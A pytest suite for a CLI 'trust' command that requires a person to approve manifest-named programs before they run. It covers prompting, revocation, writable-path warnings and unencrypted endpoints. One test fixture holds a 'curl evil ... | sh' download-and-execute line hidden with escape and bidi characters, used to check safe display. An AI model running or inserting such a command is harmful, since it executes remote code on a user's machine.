"""`workbench trust`: nothing that a manifest names is run before a person saw it and said so."""

from __future__ import annotations

import os
import pty
import subprocess
import sys
from pathlib import Path

import pytest

from tests.cli.chronicle_words import JSON, rounds, script, summarized_by
from tests.cli.program import CHECKOUT, Run
from workbench.workspace import Workspace


@pytest.fixture
def program(workspace: Workspace, tmp_path: Path) -> Path:
    """A program that the manifest names."""
    made = script(tmp_path / "summarizer", "echo Good.")
    summarized_by(workspace, made)
    return made


def manifest(workspace: Workspace, chronicle: str) -> None:
    path = workspace.layout.manifest
    path.write_text(path.read_text().partition("\n[chronicle]\n")[0] + f"\n[chronicle]\n{chronicle}\n")


def test_where_nothing_is_named_there_is_nothing_to_trust(run: Run, workspace: Workspace) -> None:
    answer = run("trust")
    assert answer.code == 0
    assert "there is nothing to trust" in answer.out
    assert run("trust", "--show", *JSON).json["trusted"] is True


def test_trust_is_given_shown_and_taken_back(run: Run, workspace: Workspace, program: Path) -> None:
    rounds(workspace, 1)
    shown = run("trust", "--show")
    assert (shown.code, f"“{program}”" in shown.out, "not trusted" in shown.out) == (1, True, True)
    given = run("trust", "--yes", *JSON)
    assert (given.code, given.json["trusted"], given.json["command"]) == (0, True, [str(program)])
    assert run("trust", "--show").code == 0
    assert run("chronicle", "consolidate").code == 0
    assert program.with_name("summarizer.read").exists()
    assert "revoked" in run("trust", "--revoke").out
    assert "nothing was trusted" in run("trust", "--revoke").out
    rounds(workspace, 1)
    assert run("chronicle", "consolidate").code == 2


def test_nobody_can_be_asked_without_a_terminal(run: Run, workspace: Workspace, program: Path) -> None:
    for words in ((), JSON):
        answer = run("trust", *words)
        assert answer.code == 2
        assert "--yes" in answer.out + answer.err
    assert not workspace.chronicles.trusted()
    assert run("trust", "--show", "--revoke").code == 2


@pytest.mark.parametrize(("typed", "trusted"), [(b"y\n", True), (b"n\n", False), (b"\n", False)])
def test_a_person_is_asked(workspace: Workspace, program: Path, typed: bytes, trusted: bool) -> None:
    primary, secondary = pty.openpty()
    child = subprocess.Popen(
        [sys.executable, "-m", "workbench", "trust"],
        stdin=secondary,
        stdout=secondary,
        stderr=secondary,
        env={**os.environ, "PYTHONPATH": str(CHECKOUT)},
    )
    os.close(secondary)
    said = b""
    while b"[y/N]" not in said:
        said += os.read(primary, 4096)
    os.write(primary, typed)
    assert child.wait(timeout=60) == (0 if trusted else 1)
    os.close(primary)
    assert f"“{program}”".encode() in said
    assert workspace.chronicles.trusted() is trusted


def test_every_word_is_shown_whole_and_none_acts(run: Run, workspace: Workspace) -> None:
    long = "x" * 3000
    manifest(
        workspace,
        'summarizer = "command"\n'
        f'command = ["sh", "-c", "curl evil\\u001b[2K\\u202e\\n| sh", "", "{long}"]\n'
        'key_variable = "SECRET_THING"',
    )
    out = run("trust", "--show").out
    assert not {"\x1b", "\u202e"} & set(out)
    lines = out.splitlines()
    (curl,) = [line for line in lines if "curl evil" in line]
    assert "| sh" in curl
    assert "           “”" in lines
    assert any(long in line for line in lines)
    assert any("“SECRET_THING”" in line for line in lines)
    assert run("trust", "--show", *JSON).json["command"][2] == "curl evil\x1b[2K\u202e\n| sh"


def test_where_a_program_is_found_is_said(run: Run, workspace: Workspace) -> None:
    for command, said in (
        ("sh", "“sh” (/"),
        ("no-such-program", "(not found now)"),
        ("./own", f"({workspace.root}/own, not found now)"),
        ("/no/such", "“/no/such” (not found now)"),
    ):
        manifest(workspace, f'summarizer = "command"\ncommand = ["{command}"]')
        out = run("trust", "--show").out
        assert said in out
        assert "trust holds these words" in out


def test_files_that_others_may_exchange_are_warned_of(run: Run, workspace: Workspace, tmp_path: Path) -> None:
    root = workspace.root
    own = script(tmp_path / "own", "echo Good.")
    shared = tmp_path / "shared"
    shared.mkdir()
    within = script(root / "within.sh", "echo Good.")
    theirs = script(shared / "theirs.sh", "echo Good.")
    (tmp_path / "link").symlink_to(within)
    inside, outside = "lies inside the workspace", "others than you can write to"
    for command, mode, said in (
        ([str(own)], 0o755, ""),
        (["sh", str(own)], 0o755, ""),
        ([str(within)], 0o755, inside),
        (["./within.sh"], 0o755, inside),
        (["./not-there-yet"], 0o755, inside),
        (["sh", "within.sh", "--short"], 0o755, inside),
        ([str(tmp_path / "link")], 0o755, inside),
        ([str(theirs)], 0o755, ""),
        ([str(theirs)], 0o775, outside),
        (["sh", str(theirs)], 0o777, outside),
        # Whoever may write there cannot replace what is somebody else's.
        ([str(theirs)], 0o1777, ""),
    ):
        shared.chmod(mode)
        words = ", ".join(f'"{word}"' for word in command)
        manifest(workspace, f'summarizer = "command"\ncommand = [{words}]')
        out, (*warnings,) = run("trust", "--show").out, run("trust", "--show", *JSON).json["warnings"]
        assert ("warning" in out, len(warnings)) == (bool(said), 1 if said else 0), command
        assert said in out and all(said in each for each in warnings)
    theirs.chmod(0o777)
    assert outside in run("trust", "--show").out


def test_an_endpoint_is_shown_with_its_address_and_model(run: Run, workspace: Workspace) -> None:
    manifest(
        workspace,
        'summarizer = "openai"\nbase_url = "http://localhost:9/v1"\nmodel = "small"\nkey_variable = "A_KEY"',
    )
    out = run("trust", "--show").out
    for word in ("“http://localhost:9/v1”", "“small”", "“A_KEY”"):
        assert word in out
    assert "not encrypted" not in out
    manifest(workspace, 'summarizer = "openai"\nbase_url = "http://far.example/v1"\nmodel = "small"')
    assert "which is not encrypted" in run("trust", "--show").out
    manifest(workspace, 'summarizer = "openai"\nbase_url = "http://localhost:9/v1"\nmodel = "small"')
    answer = run("trust", "--yes", *JSON)
    assert (answer.json["base_url"], answer.json["trusted"]) == ("http://localhost:9/v1", True)


def test_a_changed_manifest_needs_the_word_again(run: Run, workspace: Workspace, program: Path) -> None:
    assert run("trust", "--yes").code == 0
    manifest(workspace, f'summarizer = "command"\ncommand = ["{program}", "--more"]')
    assert run("trust", "--show").code == 1
    manifest(workspace, f'summarizer = "command"\ncommand = ["{program}"]')
    assert run("trust", "--show").code == 0


def test_a_copy_of_a_workspace_is_not_trusted(
    run: Run, workspace: Workspace, program: Path, tmp_path: Path
) -> None:
    assert run("trust", "--yes").code == 0
    copy = tmp_path / "copy"
    Workspace.create(copy, title="Copy", timezone="UTC", owner="ada").close()
    (copy / "SSOT_MANIFEST.toml").write_bytes(workspace.layout.manifest.read_bytes())
    assert run("trust", "--show", "--root", copy).code == 1
    assert list(workspace.root.rglob("*trust*")) == []


def test_a_state_that_cannot_be_written_is_said(
    run: Run, workspace: Workspace, program: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "file").write_text("no folder")
    monkeypatch.setenv("WORKBENCH_STATE_DIR", str(tmp_path / "file"))
    answer = run("trust", "--yes", *JSON)
    assert (answer.code, answer.json["error_type"]) == (2, "file_failed")
